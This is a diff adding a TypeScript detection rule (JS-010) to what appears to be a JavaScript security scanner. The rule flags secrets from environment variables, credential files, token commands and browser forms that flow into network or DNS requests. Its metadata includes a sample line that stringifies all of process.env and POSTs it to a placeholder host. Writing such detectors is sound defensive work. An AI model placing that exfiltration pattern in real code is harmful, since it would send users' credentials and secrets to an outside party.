@@ -1,0 +1,62 @@
+import type { JsRule } from '../engine.js';
+import { hasKind } from '../taint.js';
+import { flowEvidence, onSinks, recordModuleFlows } from './flow-common.js';
+import { js } from './helpers.js';
+
+/** Data flow: secrets (env, credential files, token commands, browser form data) reach the network. */
+export const secretExfiltration: JsRule = {
+  meta: {
+    ...js,
+    id: 'JS-010',
+    name: 'secret-exfiltration-flow',
+    category: 'exfiltration',
+    severity: 'critical',
+    confidence: 'high',
+    description:
+      'Data derived from secrets (process.env, credential files such as ~/.npmrc or ~/.ssh, token commands, browser cookies and form fields) flows into a network request, DNS query or socket.',
+    rationale:
+      'Stealers read credentials and send them out; Beagle follows the value from where it is read, through variables, objects, JSON.stringify, encodings, template strings and local helper functions, to the request that carries it. A library that reads a single config variable does not send it anywhere.',
+    falsePositives:
+      'SDK clients that send their own API key (read from a named env var) to their own service in an Authorization header; HTTP proxies that forward form data by design.',
+    example:
+      "const data = JSON.stringify(process.env);\nhttps.request({ hostname: 'x.invalid', method: 'POST' }).end(data)",
+    references: [
+      'https://attack.mitre.org/techniques/T1041/',
+      'https://attack.mitre.org/techniques/T1552/001/',
+    ],
+  },
+  create(ctx) {
+    const sinks = onSinks(
+      ctx,
+      ['env', 'secret', 'browser-data'],
+      ['network', 'dns'],
+      (node, sink, sources) => {
+        const whole = hasKind(sources, 'env', 'browser-data');
+        // Whole env / forms, credential files and token commands are strong; one named variable is weaker.
+        const strong =
+          whole || sources.some((s) => s.kind === 'secret' && !s.what.startsWith('process.env.'));
+        ctx.facts.capabilities.add('secret-exfiltration');
+        ctx.report({
+          node,
+          message: `Sends ${sources.map((s) => s.what).join(', ')} out through ${sink.callee}${sink.kind === 'dns' ? ' (encoded in DNS queries)' : ''}.`,
+          // A single named variable (an SDK's own API key) going to a request is much weaker
+          // than the whole environment, a credential file or a form.
+          severity: strong ? 'critical' : 'high',
+          confidence: strong ? 'high' : 'medium',
+          evidence: flowEvidence(ctx, node, sink, sources),
+        });
+      },
+    );
+    const pending = recordModuleFlows(ctx);
+    return {
+      CallExpression(n) {
+        sinks.CallExpression(n);
+        pending.CallExpression(n);
+      },
+      NewExpression(n) {
+        sinks.NewExpression(n);
+        pending.NewExpression(n);
+      },
+    };
+  },
+};
